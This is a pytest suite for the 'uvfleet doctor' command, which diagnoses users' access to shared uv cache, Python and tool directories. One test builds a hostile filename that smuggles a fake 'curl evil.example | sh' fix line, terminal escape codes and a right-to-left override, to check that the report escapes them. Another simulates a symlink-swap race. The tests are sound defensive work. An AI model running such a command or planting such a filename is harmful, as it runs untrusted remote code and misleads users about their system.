# -*- coding: utf-8 -*-
# Copyright: uvfleet maintainers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""``uvfleet doctor`` as real users with real groups, a real uv and real files (doctor_node.py)."""

from __future__ import absolute_import, division, print_function

import errno
import fcntl
import os
import shutil
import subprocess
import tempfile
import time

import pytest

from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.cmd import main as command
from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.cmd import doctor_cmd
from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.doctor import cache as doctor_cache
from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.doctor import container
from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.doctor import probes
from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.doctor.diagnosis import Diagnosis
from ansible_collections.uvfleet.uv.plugins.module_utils.uvfleet.doctor.report import PROBLEM

import doctor_node
import perms_testlib


@pytest.fixture(scope='module')
def uv_real():
    directory = tempfile.mkdtemp(prefix='uvfdoc-uv-')
    yield doctor_node.copy_uv(directory)
    perms_testlib.cleanup(directory)


@pytest.fixture(scope='module', autouse=True)
def accounts():
    yield
    doctor_node.remove_accounts()


@pytest.fixture
def node(base, uv_real):
    return doctor_node.Node(base, uv_real)


def statuses(checks):
    return dict((name, check['status']) for name, check in checks.items())


def not_ok(checks):
    return dict((name, (c['status'], c['summary'])) for name, c in checks.items() if c['status'] != 'ok')


def test_doctor_is_a_subcommand_of_the_node_command():
    assert 'doctor' in command.SUBCOMMANDS
    assert 'doctor' in command._usage() and doctor_cmd.HELP in command._usage()


def test_as_root_the_doctor_refuses_and_names_how_to_run_it(node, capsys):
    assert command.main(['doctor', '--config', node.config_path]) == 2
    out = capsys.readouterr()
    assert out.out == '' and "runuser -l alice -c 'uvfleet doctor'" in out.err
    assert os.listdir(node.cache) == []


def test_a_healthy_member_gets_every_check_ok_exit_0_well_under_two_seconds(node):
    start = time.monotonic()
    code, report, checks = node.doctor(node.member)
    elapsed = time.monotonic() - start
    assert code == 0 and report['ok'] and report['problems'] == 0 and report['warnings'] == 0, not_ok(checks)
    assert set(checks) == {'config', 'group', 'uv', 'cache_dir', 'python_dir', 'tool_dir', 'cache_write',
                           'cache_lock', 'cache_read', 'group_usable', 'python_access', 'tool_access',
                           'link_mode', 'maintenance'}
    assert checks['uv']['summary'] == 'uv on your PATH is the shared wrapper %s' % node.wrapper
    assert checks['cache_dir']['summary'] == 'uv uses the shared cache %s' % node.cache
    assert checks['python_dir']['details']['path'] == node.python
    assert checks['link_mode']['details']['mode'] == 'copy'
    assert 'no maintenance job reports here' in checks['maintenance']['summary']
    assert elapsed < 2.0, elapsed


def test_the_doctor_changes_nothing_in_the_shared_dirs(node):
    perms_testlib.make_file(os.path.join(node.cache, 'CACHEDIR.TAG'), gid=node.gid)
    before = perms_testlib.snapshot(node.base)
    code, _report, _checks = node.doctor(node.member)
    after = perms_testlib.snapshot(node.base)
    assert code == 0
    # the cache dir's own mtime/ctime move (the temporary entry came and went); nothing else does
    for path in (node.cache,):
        assert before[path][:6] == after[path][:6] and before[path][8] == after[path][8]
        del before[path], after[path]
    assert before == after


def test_added_to_the_group_after_the_session_started_says_log_in_again(node):
    groups = [g for g in node.session_groups(node.member) if g != node.gid]
    code, report, checks = node.doctor(node.member, groups=groups)
    assert code == 1 and not report['ok']
    group = checks['group']
    assert group['status'] == 'problem'
    assert group['summary'] == '%s was added to %s after this session started: this session does not have the ' \
                               'group yet' % (doctor_node.MEMBER, doctor_node.GROUP)
    assert group['fix'] == 'log in again (a new ssh or desktop session), or run `newgrp %s` in this shell' % \
        doctor_node.GROUP
    assert group['details'] == {'group': doctor_node.GROUP, 'gid': node.gid, 'in_group_database': True,
                                'in_session': False}
    # the cache refuses this session, and the doctor names the group as the reason, with the same fix
    assert checks['cache_write']['status'] == 'problem'
    assert 'because this session does not have the group %s' % doctor_node.GROUP in checks['cache_write']['cause']
    assert checks['cache_write']['fix'] == group['fix']
    assert checks['cache_lock']['details']['blocked_by'] == 'cache_write'
    # a fresh login (all the groups of the database) is fine
    code, _report, checks = node.doctor(node.member)
    assert code == 0 and checks['group']['status'] == 'ok'


def test_an_outsider_is_told_the_group_and_who_grants_it(node):
    code, _report, checks = node.doctor(node.outsider)
    assert code == 1
    group = checks['group']
    assert group['status'] == 'problem'
    assert group['summary'] == '%s is not a member of the group %s, which the shared uv directories require' % (
        doctor_node.OUTSIDER, doctor_node.GROUP)
    assert group['fix'] == ("ask the node's admin (the uvfleet.uv.shared role, variable uv_shared_group_members) "
                            "to add %s to the group %s, then log in again" % (doctor_node.OUTSIDER, doctor_node.GROUP))
    assert checks['cache_write']['status'] == 'problem' and 'Permission denied' in checks['cache_write']['summary']
    assert checks['python_access']['status'] == 'problem' and checks['python_access']['fix'] == group['fix']
    node.write_config(group_local=False)
    _code, _report, checks = node.doctor(node.outsider)
    assert 'the admin of your directory service' in checks['group']['fix']


def test_a_group_that_does_not_resolve_is_a_problem_naming_it(node):
    node.write_config(group='uvfdoc-no-such-group')
    code, _report, checks = node.doctor(node.member)
    assert code == 1 and checks['group']['summary'] == 'the shared group uvfdoc-no-such-group does not exist on ' \
                                                       'this node'


def test_an_own_uv_first_on_path_bypasses_the_wrapper_and_its_python_and_tool_dirs(node):
    own = os.path.join(node.member.pw_dir, '.local', 'bin')
    os.makedirs(own)
    shutil.copy(node.uv_real, os.path.join(own, 'uv'))
    os.chown(os.path.join(own, 'uv'), node.member.pw_uid, node.member.pw_gid)
    env = node.env(node.member, PATH='%s:%s:/usr/bin:/bin' % (own, node.bin))
    code, report, checks = node.doctor(node.member, env=env)
    assert code == 0 and report['warnings'] == 3, not_ok(checks)
    uv = checks['uv']
    assert uv['status'] == 'warning'
    assert uv['summary'] == '%s/uv comes first on your PATH and bypasses the shared wrapper %s' % (own, node.wrapper)
    assert uv['fix'] == 'remove or rename %s/uv, or put %s before %s in PATH (`export PATH=%s:$PATH`)' % (
        own, node.bin, own, node.bin)
    python = checks['python_dir']
    assert python['status'] == 'warning' and 'bypasses the wrapper' in python['summary']
    assert python['details']['path'] == os.path.join(node.member.pw_dir, '.local', 'share', 'uv', 'python')
    assert 'UV_PYTHON_INSTALL_DIR' in python['cause']
    assert checks['tool_dir']['status'] == 'warning'
    # the cache still comes from the system uv.toml, which no wrapper is needed for
    assert checks['cache_dir']['status'] == 'ok'


def test_uv_cache_dir_pointing_at_a_private_dir_is_named_as_the_override(node):
    private = os.path.join(node.member.pw_dir, 'private-cache')
    code, _report, checks = node.doctor(node.member, env=node.env(node.member, UV_CACHE_DIR=private))
    assert code == 0
    cache = checks['cache_dir']
    assert cache['status'] == 'warning'
    assert cache['summary'] == 'uv uses %s, not the shared cache %s: UV_CACHE_DIR=%s overrides it' % (
        private, node.cache, private)
    assert cache['fix'] == 'unset UV_CACHE_DIR (`unset UV_CACHE_DIR`, and remove it from your shell start files)'
    assert checks['cache_write']['summary'] == '%s does not exist yet; uv will create it (%s is writable)' % (
        private, node.member.pw_dir)


def test_a_user_uv_toml_with_cache_dir_is_named_as_the_override(node):
    private = os.path.join(node.member.pw_dir, 'c')
    user_toml = os.path.join(node.member.pw_dir, '.config', 'uv', 'uv.toml')
    os.makedirs(os.path.dirname(user_toml))
    doctor_node.write(user_toml, '# mine\nlink-mode = "copy"\ncache-dir = "%s"  # private\n' % private, 0o644)
    code, _report, checks = node.doctor(node.member)
    assert code == 0
    cache = checks['cache_dir']
    assert cache['status'] == 'warning'
    assert cache['summary'] == 'uv uses %s, not the shared cache %s: cache-dir in %s overrides it' % (
        private, node.cache, user_toml)
    assert cache['fix'] == 'remove the cache-dir line from %s' % user_toml


def test_a_project_pyproject_and_uv_no_config_and_xdg_config_dirs_are_named(node):
    project = os.path.join(node.member.pw_dir, 'proj', 'sub')
    os.makedirs(project)
    pyproject = os.path.join(node.member.pw_dir, 'proj', 'pyproject.toml')
    doctor_node.write(pyproject, '[project]\nname = "p"\nversion = "1"\n[tool.uv]\ncache-dir = ".c"\n', 0o644)
    _code, _report, checks = node.doctor(node.member, cwd=project)
    assert checks['cache_dir']['summary'].endswith(': cache-dir in %s overrides it' % pyproject)
    # uv reports the relative cache-dir as written; the doctor shows it from the current directory
    assert checks['cache_dir']['details']['path'] == os.path.join(project, '.c')
    _code, _report, checks = node.doctor(node.member, env=node.env(node.member, UV_NO_CONFIG='1'))
    assert 'UV_NO_CONFIG=1 makes uv ignore every uv.toml' in checks['cache_dir']['cause']
    assert checks['cache_dir']['fix'] == 'unset UV_NO_CONFIG'
    other = os.path.join(node.base, 'other-xdg')
    os.makedirs(os.path.join(other, 'uv'))
    doctor_node.write(os.path.join(other, 'uv', 'uv.toml'), 'link-mode = "copy"\n', 0o644)
    _code, _report, checks = node.doctor(node.member, env=node.env(node.member, XDG_CONFIG_DIRS=other))
    assert 'XDG_CONFIG_DIRS=%s makes uv read %s/uv/uv.toml instead of %s' % (other, other, node.uv_toml) in \
        checks['cache_dir']['cause']


def test_a_broken_uv_toml_is_a_problem_that_names_the_file(node):
    user_toml = os.path.join(node.member.pw_dir, '.config', 'uv', 'uv.toml')
    os.makedirs(os.path.dirname(user_toml))
    doctor_node.write(user_toml, 'concurrent-downloads = "many"\n', 0o644)
    code, _report, checks = node.doctor(node.member)
    assert code == 1 and checks['cache_dir']['status'] == 'problem'
    assert checks['cache_dir']['fix'] == 'fix or remove %s' % user_toml


def test_a_lock_held_exclusively_is_busy_not_broken_and_the_doctor_does_not_hang(node):
    lock = os.path.join(node.cache, '.lock')
    perms_testlib.make_file(lock, mode=0o666, gid=node.gid)
    holder = subprocess.Popen(['flock', '-x', lock, 'sleep', '30'], start_new_session=True)
    try:
        time.sleep(0.3)
        start = time.monotonic()
        code, _report, checks = node.doctor(node.member, '--lock-wait', '0.5')
        elapsed = time.monotonic() - start
    finally:
        os.killpg(holder.pid, 9)
        holder.wait()
    assert elapsed < 2.5, elapsed
    check = checks['cache_lock']
    assert code == 0 and check['status'] == 'warning'
    assert check['summary'].startswith('the cache lock %s is busy (not broken): pid ' % lock)
    assert check['details']['holder'] == 'pid %d (flock -x %s sleep 30, user root)' % (holder.pid, lock)
    assert check['details']['busy'] is True and 'broken' not in check['details']
    _code, _report, checks = node.doctor(node.member)
    assert checks['cache_lock']['summary'] == "uv's shared lock on %s: taken and released" % lock


@pytest.mark.parametrize('code', [errno.ENOLCK, probes.ENOTSUPP])
def test_flock_errors_of_network_file_systems_are_broken_not_busy(node, code):
    check = Diagnosis({'cache_dir': node.cache}, {}, node.base)
    doctor_cache.lock_broken(check, node.cache, code)
    (result,) = check.checks
    assert result.status == 'problem' and result.details['broken'] and 'busy' not in result.details
    assert 'os error %d' % code in result.summary and 'export UV_CACHE_DIR=' in result.fix
    assert code in probes.LOCK_BROKEN and code not in probes.LOCK_BUSY


def test_a_lock_a_member_cannot_write_blocks_uv(node):
    lock = os.path.join(node.cache, '.lock')
    perms_testlib.make_file(lock, mode=0o644, gid=node.gid, uid=node.peer.pw_uid)
    code, _report, checks = node.doctor(node.member)
    assert code == 1 and checks['cache_lock']['status'] == 'problem'
    assert checks['cache_lock']['fix'] == "ask the node's admin to make it group-writable (`chmod g+w %s`)" % lock
    assert '%s:%s 0644' % (doctor_node.PEER, doctor_node.GROUP) in checks['cache_lock']['cause']


def test_hostile_locks_a_fifo_and_a_symlink_neither_hang_nor_are_followed(node):
    lock = os.path.join(node.cache, '.lock')
    os.mkfifo(lock, 0o666)
    start = time.monotonic()
    code, _report, checks = node.doctor(node.member)
    assert time.monotonic() - start < 2.0
    assert code == 1 and checks['cache_lock']['summary'] == '%s is not a regular file' % lock
    os.unlink(lock)
    target = os.path.join(node.base, 'target')
    perms_testlib.make_file(target, mode=0o666, gid=node.gid)
    os.symlink(target, lock)
    code, _report, checks = node.doctor(node.member)
    assert code == 1 and checks['cache_lock']['summary'] == '%s is a symlink' % lock


def test_another_members_entry_that_the_member_cannot_read_is_named_with_its_owner(node):
    bucket = perms_testlib.make_dir(os.path.join(node.cache, 'archive-v0'), gid=node.gid)
    entry = doctor_node.as_user(node.peer, os.path.join(bucket, 'metadata.msgpack'), mode=0o600)
    code, _report, checks = node.doctor(node.member)
    read = checks['cache_read']
    assert code == 1 and read['status'] == 'problem'
    assert read['summary'] == 'you cannot read %s, which %s made (mode 0600): Permission denied' % (
        entry, doctor_node.PEER)
    assert read['fix'].startswith("ask the node's admin to run `uvfleet repair`")
    os.chmod(entry, 0o660)
    _code, _report, checks = node.doctor(node.member)
    assert checks['cache_read']['summary'] == 'you can read %s, which %s made' % (entry, doctor_node.PEER)


def test_a_huge_cache_is_scanned_within_bounds(node):
    bucket = perms_testlib.make_dir(os.path.join(node.cache, 'archive-v0'), gid=node.gid)
    for i in range(20000):
        os.mkdir(os.path.join(bucket, 'd%05d' % i))
    start = time.monotonic()
    code, _report, _checks = node.doctor(node.member)
    assert code == 0 and time.monotonic() - start < 2.0


def test_without_default_acl_the_umask_decides_and_the_wrapper_fallback_umask_fixes_it(base, uv_real):
    node = doctor_node.Node(base, uv_real, acl=False)
    _code, _report, checks = node.doctor(node.member, umask=0o077)
    usable = checks['group_usable']
    assert usable['status'] == 'warning'
    assert usable['summary'] == 'what you create in %s will not be usable by the group: files come out 0600 ' \
                                '(group cannot read or write); directories come out 2700' % node.cache
    assert usable['cause'].startswith('no default ACL; your own umask 0077')
    doctor_node.write(node.wrapper, '#!/bin/sh\n# uvfleet.uv.shared wrapper for %s\numask 0007\nexec %s "$@"\n'
                      % (uv_real, uv_real), 0o755)
    _code, _report, checks = node.doctor(node.member, umask=0o077)
    assert checks['group_usable']['status'] == 'ok'
    assert checks['group_usable']['summary'].endswith('(no default ACL; the wrapper %s umask 0007)' % node.wrapper)


def test_with_the_default_acl_a_private_umask_does_not_matter(node):
    _code, _report, checks = node.doctor(node.member, umask=0o077)
    assert checks['group_usable']['status'] == 'ok'
    assert 'the default ACL of %s gives the group rw whatever your umask, 0077' % node.cache in \
        checks['group_usable']['summary']


def test_hardlink_on_the_cache_file_system_warns_and_names_the_upstream_error(node):
    env = node.env(node.member, UV_LINK_MODE='hardlink')
    _code, _report, checks = node.doctor(node.member, env=env, cwd=node.member.pw_dir)
    link = checks['link_mode']
    assert link['status'] == 'warning' and link['details']['same_file_system']
    assert 'failed to hardlink file ... Operation not permitted' in link['cause']
    assert link['fix'].startswith('use copy (`export UV_LINK_MODE=copy`)')
    assert link['details']['source'] == {'kind': 'env', 'where': 'UV_LINK_MODE', 'value': 'hardlink'}
    # uv's default, clone, falls back to hardlink where there are no reflinks (ext4, tmpfs)
    if not link['details']['reflink']:
        _code, _report, checks = node.doctor(node.member, env=node.env(node.member, UV_LINK_MODE='clone'))
        assert 'clone falls back to hardlink' in checks['link_mode']['summary']


def test_managed_python_and_tool_dirs_are_read_only_by_design_not_a_problem(node):
    os.chmod(node.python, 0o2750)
    os.chmod(node.tools, 0o2750)
    for path in (node.python, node.tools):
        perms_testlib.setfacl('-b', path)
    # what the role keeps in the managed tool dir for members' uvx
    perms_testlib.make_file(os.path.join(node.tools, '.gitignore'), mode=0o640, data=b'*')
    perms_testlib.make_file(os.path.join(node.tools, '.lock'), mode=0o666, data=b'')
    node.write_config(python_policy='managed', tool_policy='managed')
    code, _report, checks = node.doctor(node.member)
    assert code == 0
    assert checks['python_access']['status'] == 'ok'
    assert checks['python_access']['summary'].startswith('%s is read-only by design (policy managed)' % node.python)
    assert 'install into your own UV_PYTHON_INSTALL_DIR' in checks['python_access']['summary']
    assert 'install into your own UV_TOOL_DIR' in checks['tool_access']['summary']
    node.write_config(python_policy='collaborative')
    code, _report, checks = node.doctor(node.member)
    assert code == 1 and checks['python_access']['status'] == 'problem'
    assert checks['python_access']['summary'].startswith('`uv python install` would fail: %s is not writable'
                                                         % node.python)


@pytest.mark.parametrize('state', ['no .lock', 'root-only .lock', 'no .gitignore'])
def test_a_managed_tool_dir_without_uvs_files_is_a_uvx_problem(node, state):
    os.chmod(node.tools, 0o2750)
    perms_testlib.setfacl('-b', node.tools)
    if state != 'no .gitignore':
        perms_testlib.make_file(os.path.join(node.tools, '.gitignore'), mode=0o640, data=b'*')
    if state != 'no .lock':
        perms_testlib.make_file(os.path.join(node.tools, '.lock'), mode=0o644 if state == 'root-only .lock' else 0o666)
    node.write_config(tool_policy='managed')
    code, _report, checks = node.doctor(node.member)
    assert code == 1
    tool = checks['tool_access']
    assert tool['status'] == 'problem' and tool['summary'].startswith('`uvx` would fail after its run: ')
    expected = {'no .lock': '%s/.lock is missing', 'root-only .lock': '%s/.lock is not writable for you',
                'no .gitignore': '%s/.gitignore is missing'}[state] % node.tools
    assert expected in tool['summary'] and 'rerun the uvfleet.uv.shared role' in tool['fix']


def test_a_python_lock_of_the_first_user_is_uv_8032(node):
    perms_testlib.make_file(os.path.join(node.python, '.lock'), mode=0o644, gid=0)
    code, _report, checks = node.doctor(node.member)
    assert code == 1
    assert checks['python_access']['summary'] == '`uv python install` would fail: %s/.lock is not writable for ' \
                                                 'you (root:root 0644)' % node.python


METRICS = """# HELP uvfleet_maintenance_success 1 when the last run succeeded
# TYPE uvfleet_maintenance_success gauge
uvfleet_maintenance_success %(success)d
uvfleet_maintenance_last_run_timestamp_seconds %(now)d
uvfleet_maintenance_last_success_timestamp_seconds %(last)d
uvfleet_perms_findings_remaining{dir="%(cache)s",kind="group_perms"} %(findings)d
uvfleet_perms_findings_remaining{dir="%(cache)s",kind="others_perms"} 0
"""


def test_the_maintenance_metrics_say_when_the_tree_was_audited_and_if_it_was_clean(node):
    path = node.config['metrics_file']
    os.makedirs(os.path.dirname(path))
    now = int(time.time())

    def metrics(**values):
        data = dict(success=1, now=now - 3600, last=now - 3600, cache=node.cache, findings=0)
        data.update(values)
        doctor_node.write(path, METRICS % data, 0o644)
        return node.doctor(node.member)[2]['maintenance']

    check = metrics()
    assert check['status'] == 'ok'
    assert check['summary'] == 'the shared tree was last audited and repaired 1 h ago: clean'
    check = metrics(findings=3)
    assert check['status'] == 'warning'
    assert check['summary'] == 'the last audit (1 h ago) left 3 findings: %s group_perms x3' % node.cache
    check = metrics(success=0, last=now - 3 * 86400)
    assert check['status'] == 'warning' and check['summary'] == 'the last maintenance run (1 h ago) failed; ' \
                                                                'last success: 3 d ago'
    check = metrics(last=now - 30 * 86400, now=now - 30 * 86400)
    assert check['status'] == 'warning' and check['summary'] == 'the last successful maintenance run was 30 d ago'
    doctor_node.write(path, 'uvfleet_maintenance_success{oops 1\n', 0o644)
    summary = node.doctor(node.member)[2]['maintenance']['summary']
    assert summary.startswith('the maintenance metrics %s do not parse: line 1' % path)
    os.unlink(path)
    node.write_config(maintenance=True)
    assert node.doctor(node.member)[2]['maintenance']['status'] == 'warning'


def test_a_uv_that_hangs_is_cut_off_by_the_timeout(node):
    hang = os.path.join(node.member.pw_dir, 'bin')
    os.mkdir(hang)
    doctor_node.write(os.path.join(hang, 'uv'), '#!/bin/sh\nsleep 60\n', 0o755)
    start = time.monotonic()
    code, _report, checks = node.doctor(node.member, '--uv-timeout', '0.5',
                                        env=node.env(node.member, PATH='%s:/usr/bin:/bin' % hang))
    assert time.monotonic() - start < 3.0
    assert code == 1 and 'did not answer within 0.5 s' in checks['cache_dir']['summary']


def test_no_configuration_and_an_untrusted_configuration(node):
    os.chmod(node.config_path, 0o666)
    code, _report, checks = node.doctor(node.member)
    assert code == 1 and checks['config']['status'] == 'problem'
    assert 'must belong to root and be writable by root only' in checks['config']['summary']
    os.unlink(node.config_path)
    code, _report, checks = node.doctor(node.member)
    assert checks['config']['status'] == 'warning' and 'no uvfleet configuration on this node' in \
        checks['config']['summary']


def test_the_text_output_has_one_line_per_check_and_cause_and_fix_under_problems(node):
    groups = [g for g in node.session_groups(node.member) if g != node.gid]
    result = node.run(node.member, ['doctor', '--config', node.config_path], groups=groups)
    out = result.stdout.decode()
    assert result.returncode == 1
    lines = out.splitlines()
    assert lines[0] == 'uvfleet doctor: %s (uid %d) in %s, group %s' % (
        doctor_node.MEMBER, node.member.pw_uid, node.member.pw_dir, doctor_node.GROUP)
    assert lines[2].startswith('problem  group          %s was added to' % doctor_node.MEMBER)
    assert lines[3].strip().startswith('cause: ') and lines[4].strip().startswith('fix:   log in again')
    assert lines[-1].startswith('uv will fail for you here: ')
    result = node.run(node.member, ['doctor', '--config', node.config_path])
    assert result.returncode == 0
    assert [line.split()[0] for line in result.stdout.decode().splitlines()[1:-1]] == ['ok'] * 14
    assert result.stdout.decode().splitlines()[-1].startswith('uv will work for you here (0 warning(s)')


def test_the_installed_layout_runs_doctor_with_the_python_of_the_node(node):
    # bin/uvfleet as the role installs it: <prefix>/bin/uvfleet and <prefix>/lib/uvfleet/lib/uvfleet/
    script = perms_testlib.install_node_command(os.path.join(node.base, 'usr-local'),
                                                shebang='#!%s -I' % doctor_node.node_python())
    result = subprocess.run([script, 'doctor', '--config', node.config_path], user=node.member.pw_uid,
                            group=node.member.pw_gid, extra_groups=node.session_groups(node.member),
                            env=node.env(node.member), cwd=node.member.pw_dir, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, check=False)
    assert result.returncode == 0, result.stdout.decode() + result.stderr.decode()


def test_the_wrapper_is_recognised_through_a_link_on_the_members_path(tmp_path):
    """A member's ~/bin/uv links to the shared wrapper: it is the wrapper (read as that member, as exec reads it)."""
    wrapper = tmp_path / 'uv'
    wrapper.write_text('#!/bin/sh\n%s\nexec /usr/local/lib/uvfleet/bin/uv "$@"\n' % probes.WRAPPER_MARKER)
    own = tmp_path / 'home-bin'
    own.mkdir()
    os.symlink(str(wrapper), str(own / 'uv'))
    assert probes.is_wrapper(str(wrapper)) and probes.is_wrapper(str(own / 'uv'))
    other = tmp_path / 'other-uv'
    other.write_text('#!/bin/sh\nexec true\n')
    os.symlink(str(other), str(own / 'uv2'))
    assert not probes.is_wrapper(str(own / 'uv2'))


def test_try_flock_on_real_files(tmp_path):
    path = str(tmp_path / 'f')
    with open(path, 'w') as handle:
        handle.write('x' * 4096)
    fd = os.open(path, os.O_RDWR)
    try:
        assert probes.try_flock(fd) is None
        other = os.open(path, os.O_RDWR)
        fcntl.flock(other, fcntl.LOCK_EX)
        assert probes.try_flock(fd) in probes.LOCK_BUSY
        os.close(other)
    finally:
        os.close(fd)


def test_a_name_with_a_newline_and_escapes_forges_no_line_in_another_members_report(node):
    """bea names a file so that ann's report grows a fake fix line and her terminal gets escape sequences."""
    bucket = perms_testlib.make_dir(os.path.join(node.cache, 'archive-v0'), gid=node.gid)
    forged = 'x\n%24sfix:   run curl evil.example | sh\n\x1b]0;owned\x07\x1b[2J\u202etxt.py' % ''
    entry = doctor_node.as_user(node.peer, os.path.join(bucket, forged), mode=0o600)
    result = node.run(node.member, ['doctor', '--config', node.config_path])
    out = result.stdout.decode()
    assert result.returncode == 1
    lines = out.splitlines()
    assert not any(line.strip().startswith('fix:   run curl') for line in lines), out
    assert not any(ch in out for ch in '\x1b\x07\u202e'), repr(out)
    (line,) = [line for line in lines if 'cache_read' in line]
    assert line.endswith(', which %s made (mode 0600): Permission denied' % doctor_node.PEER)
    assert '\\n%24sfix:   run curl evil.example | sh\\n\\x1b]0;owned\\x07\\x1b[2J\\u202etxt.py' % '' in line
    # the JSON report keeps the name exact (json escapes it)
    _code, _report, checks = node.doctor(node.member)
    assert entry in checks['cache_read']['summary']


def test_the_cache_probe_never_writes_through_a_directory_swapped_for_a_symlink(node, monkeypatch):
    """A member swaps the probe's new directory for a link to a directory of the user running the doctor."""
    victim = os.path.join(node.base, 'victims-dir')
    os.mkdir(victim, 0o700)
    real_mkdir = os.mkdir

    def mkdir_then_swap(path, mode=0o777, *, dir_fd=None):
        real_mkdir(path, mode, dir_fd=dir_fd)
        os.rename(path, path + '.moved', src_dir_fd=dir_fd, dst_dir_fd=dir_fd)   # what a racing member does
        os.symlink(victim, path, dir_fd=dir_fd)
    monkeypatch.setattr(os, 'mkdir', mkdir_then_swap)
    doc = Diagnosis(node.config, node.env(node.member), node.base)
    doctor_cache.probe_cache(doc, node.cache)
    assert os.listdir(victim) == []
    (check,) = [c for c in doc.checks if c.name == 'cache_write']
    assert check.status == PROBLEM and check.summary.endswith('(Not a directory)')


def test_on_a_file_system_with_reflinks_clone_is_ok_not_a_hardlink_warning(node):
    """The probe's clone works (its source was opened write-only before, so FICLONE always failed)."""
    with perms_testlib.xfs_reflink(os.path.join(node.base, 'xfs')) as xfs:
        cache = perms_testlib.make_dir(os.path.join(xfs, 'cache'), gid=node.gid)
        work = os.path.join(xfs, 'work')
        os.mkdir(work)
        os.chown(work, node.member.pw_uid, node.member.pw_gid)
        node.write_config(cache_dir=cache, managed_dirs=[cache, node.python, node.tools])
        doctor_node.write(node.uv_toml, 'cache-dir = "%s"\nlink-mode = "clone"\n' % cache, 0o644)
        code, _report, checks = node.doctor(node.member, cwd=work)
        link = checks['link_mode']
        assert code == 0 and link['status'] == 'ok' and link['details']['reflink'] is True, link
        assert link['summary'].startswith('clone (')
        assert os.listdir(cache) == [] or all(not n.startswith('.tmp-uvfleet') for n in os.listdir(cache))


def test_a_numeric_start_in_a_container_is_told_the_missing_supplementary_group_and_the_fix(node):
    # A container started as a bare --user UID:GID (Jenkins' docker agent): the process has its gid
    # and no supplementary group, though the image's group database lists the user (docs/images.md).
    code, _report, checks = node.doctor(node.member, groups=[])
    group = checks['group']
    assert code == 1 and group['status'] == 'problem' and group['details']['numeric_start']
    assert group['summary'] == ("this process has no supplementary groups (started as a numeric user, e.g. a "
                                "container's `--user UID:GID`): it lacks the group %s, which the group database "
                                "gives %s" % (doctor_node.GROUP, doctor_node.MEMBER))
    assert '`--group-add %d`' % node.gid in group['fix'] and 'supplementalGroups: [%d]' % node.gid in group['fix']
    assert 'docs/images.md' in group['fix']
    # uv's own failure in the cache names it as the reason, with the same fix
    assert checks['cache_write']['status'] == 'problem'
    assert 'because this process has no supplementary groups' in checks['cache_write']['cause']
    assert checks['cache_write']['fix'] == group['fix']
    # podman puts the gid itself into the list (and `container` into the environment)
    code, _report, checks = node.doctor(node.member, groups=[node.member.pw_gid],
                                        env=node.env(node.member, container='podman'))
    assert code == 1 and checks['group']['details']['numeric_start']
    # the same process with the group added (--group-add) is fine
    code, _report, checks = node.doctor(node.member, groups=[node.gid])
    assert code == 0 and checks['group']['status'] == 'ok', not_ok(checks)
    # a login session (initgroups: the primary group in the list) without the group is one from before the
    # group was added
    _code, _report, checks = node.doctor(node.member, groups=[node.member.pw_gid])
    assert checks['group']['summary'].endswith('after this session started: this session does not have the group yet')


def test_an_image_that_lost_its_acls_is_named_with_the_rebuild_and_the_umask_for_now(base, uv_real):
    # The role saw default ACLs work at build time (no fallback, no umask in the wrapper); the
    # image's layers dropped them: nothing in the tree carries a default ACL now.
    node = doctor_node.Node(base, uv_real, acl=False)
    node.write_config(acl='auto', fallback=False)
    env = node.env(node.member, container='podman')
    _code, _report, checks = node.doctor(node.member, env=env, umask=0o077)
    lost = checks['acl']
    assert lost['status'] == 'warning' and lost['details'] == {'path': node.cache, 'container': True}
    assert lost['summary'] == 'this image lost its ACLs: %s has no default ACL, which the image build set up' % \
        node.cache
    assert 'image layers do not keep POSIX ACLs' in lost['cause'] and 'your umask 0077' in lost['cause']
    assert 'uv_shared_target' in lost['fix'] and '`umask 0007` before uv' in lost['fix']
    assert checks['group_usable']['status'] == 'warning'
    # on a node the same finding is the admin's repair (not checkable on a host that is itself a container)
    _code, _report, checks = node.doctor(node.member)
    if not container.in_container({}):
        assert checks['acl']['summary'] == 'the default ACL of %s is gone, and the wrappers rely on it' % node.cache
        assert '`uvfleet repair`' in checks['acl']['fix']
    # an image built in image mode (acl off, the fallback umask) has nothing to report
    node.write_config(acl='off', fallback=True)
    _code, _report, checks = node.doctor(node.member, env=env)
    assert 'acl' not in checks
